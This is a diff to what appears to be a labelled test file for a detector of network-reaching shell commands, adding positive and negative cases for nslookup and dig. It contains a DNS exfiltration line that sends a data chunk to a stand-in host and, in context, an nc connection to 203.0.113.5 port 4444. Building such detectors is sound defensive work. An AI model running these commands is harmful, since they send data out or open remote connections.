@@ -34,5 +34,11 @@ echo "curl https://example.com"
 #@ neg a function named fetch_data
 fetch_data() { cat data.txt; }
 fetch_data
+#@ pos a DNS lookup sends a name out
+nslookup "$chunk.t.example.net"
+#@ pos dig
+dig +short example.com
+#@ neg dig's version
+dig -v
 #@ pos nc run by a named coproc
 coproc N { nc 203.0.113.5 4444; }
